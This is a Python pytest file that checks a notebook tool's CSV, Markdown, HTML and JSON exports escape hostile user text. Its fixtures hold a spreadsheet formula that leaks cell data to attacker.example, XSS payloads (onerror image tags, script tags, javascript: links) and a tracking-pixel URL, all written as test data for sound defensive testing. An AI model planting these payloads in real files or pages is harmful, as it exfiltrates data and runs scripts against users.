"""Exports are data, not code: hostile user text stored through the service layer, fed to every format.

CSV: no cell may begin a spreadsheet formula (OWASP CSV injection), every cell is quoted.
Markdown: no user text may become raw HTML or a link (rendered with a real CommonMark
renderer, raw HTML on, as notebooks and many viewers do). HTML: user text escaped. JSON:
the raw values, unchanged.
"""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from markdown_it import MarkdownIt

from socrates_nb import export
from socrates_nb.workspace import Project, Workspace

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
NAME = FORMULA
DESCRIPTION = (
    '<img src=x onerror=alert(1)> [x](javascript:alert(1)) <javascript:alert(2)> '
    '![pixel](http://attacker.example/p.png)\n[r]: javascript:alert(3)\n# Not a heading'
)
ANSWERS = (
    FORMULA,
    "+1+2 is not a phone number; @SUM(A1:A2) is used.",
    "-5 degrees is the minimum operating temperature.",
    "Totals;=1+1 are shown per shop.",
    "See [docs](data:text/html,hi) and <img src=x onerror=alert(1)>.",
    "Clerks paste <script>alert(1)</script> and [x](javascript:alert(1)) into the form.",
    "Links like [ref] and <javascript:alert(2)> are plain text & stay readable.",
)
CRITERION = "=2+3 is the most a clerk may cancel per day."
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(ws: Workspace) -> Project:
    """A project whose name, description and answers are all hostile, stored through the workspace."""
    p = ws.create_project(NAME, description=DESCRIPTION)
    s = p.start_session()
    for text in ANSWERS:
        s.answer(text)
    # a probe question quotes the user's words: question text carries user text too;
    # a reply to a criteria follow-up is user text in the acceptance-criteria column
    while s.skip() is not None:  # then a free answer: a capability
        pass
    assert s.answer("Clerks cancel orders.").next_question.key.startswith("criteria.")
    s.answer(CRITERION)
    return p


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_no_csv_cell_starts_a_formula(hostile: Project) -> None:
    text = hostile.specification().to_csv()
    rows = _rows(text)
    assert rows[0][:4] == ["ref", "category", "key", "text"] and len(rows) > 5
    for row in rows:
        for cell in row:
            assert not cell.startswith(DANGEROUS_START), (row, cell)
    # the hostile strings arrived, neutralised by a leading quote and otherwise unchanged
    answers = {row[8] for row in rows[1:]}
    assert "'" + FORMULA in answers
    assert "'" + CRITERION in {row[9] for row in rows[1:]}
    texts = {row[3] for row in rows[1:]}
    assert "'-5 degrees is the minimum operating temperature." in texts  # readable: only the quote was added
    assert any(t.startswith("'+1+2") for t in texts) and any(t.startswith("'@SUM(A1:A2)") for t in texts)


def test_every_csv_cell_is_quoted(hostile: Project) -> None:
    """A cell such as ``Totals;=1+1`` must stay one cell for a spreadsheet splitting on ``;`` too:
    every item cell is quoted (the constant header need not be)."""
    header, body = hostile.specification().to_csv().split("\n", 1)
    assert header == "ref,category,key,text,confidence,value,findings,question,answer,acceptance_criteria"
    requoted = io.StringIO()
    csv.writer(requoted, quoting=csv.QUOTE_ALL, lineterminator="\n").writerows(_rows(body))
    assert body == requoted.getvalue() and body
    text = body
    # the answer went to the criteria follow-up of FR-001: two criteria in one quoted cell
    assert '"Totals\n=1+1 are shown per shop."' in text


def test_csv_cell_rules() -> None:
    for raw in ("=1+1", "+1", "-5", "@SUM(A1)", "\tx", "\rx", "-"):
        assert export.csv_cell(raw) == "'" + raw
    for raw in ("", "5", "a=1", "x -5", "'=1", " =1", "ok"):
        assert export.csv_cell(raw) == raw


def _rendered(markdown: str) -> str:
    return MarkdownIt("commonmark", {"html": True}).render(markdown)


def test_markdown_renders_no_html_and_no_link(hostile: Project) -> None:
    md = hostile.specification().to_markdown()
    for needle in ("<img", "<script", "<javascript:"):
        assert needle not in md, needle
    assert not re.search(r"(?<!\\)\]\(", md), "a link or image: an unescaped ']('"
    assert not re.search(r"(?m)^\s*\[[^\]]*\]:", md), "a link reference definition"
    page = _rendered(md)
    for needle in ("<img", "<script", "<a ", "href=", "<h1>Not a heading"):
        assert needle not in page, needle
    # the text itself is still there, readable once rendered
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "[x](javascript:alert(1))" in page and "[docs](data:text/html,hi)" in page
    assert "-5 degrees is the minimum operating temperature." in page and "-5 degrees" in md
    assert "plain text &amp; stay readable" in page and "Links like [ref]" in page
    assert page.count("<h1>") == 1 and "=HYPERLINK(" in page.split("</h1>")[0]


def test_markdown_question_text_is_escaped(hostile: Project) -> None:
    """Probe questions quote the user's answer: the question text is user text too."""
    questions = [q for it in hostile.specification().items if (q := it.source_question)]
    quoting = [q for q in questions if "<" in q or "[" in q]
    assert quoting, "expected a probe question quoting the hostile answer"
    md = hostile.specification().to_markdown()
    for q in quoting:
        assert f"Asked: {export.md_escape(q)}" in md


def test_md_escape_rules() -> None:
    assert export.md_escape("a < b & c > d") == "a &lt; b &amp; c &gt; d"
    assert export.md_escape("[x](javascript:y)") == "\\[x\\](javascript:y)"
    assert export.md_escape("a|b\nc\\d") == "a\\|b c\\\\d"
    assert export.md_escape("*bold* _it_ `code`") == "\\*bold\\* \\_it\\_ \\`code\\`"
    assert export.md_escape("# title", line_start=True) == "\\# title"
    assert export.md_escape("  - item", line_start=True) == "\\- item"
    assert export.md_escape("1. first", line_start=True) == "1\\. first"
    assert export.md_escape("Plain text, 200 ms.") == "Plain text, 200 ms."


def test_html_export_escapes_every_hostile_string(hostile: Project) -> None:
    page = hostile.specification().to_html()
    for needle in ("<img", "<script", "<javascript:"):
        assert needle not in page, needle
    assert "&lt;img src=x onerror=alert(1)&gt;" in page and "-5 degrees" in page


def test_json_keeps_the_raw_values(hostile: Project) -> None:
    data = json.loads(hostile.specification().to_json())
    assert data["project"]["name"] == NAME and data["project"]["description"] == DESCRIPTION
    texts = {i["text"] for i in data["items"]}
    assert "-5 degrees is the minimum operating temperature." in texts
    assert FORMULA in {i["source"]["answer"] for i in data["items"]}
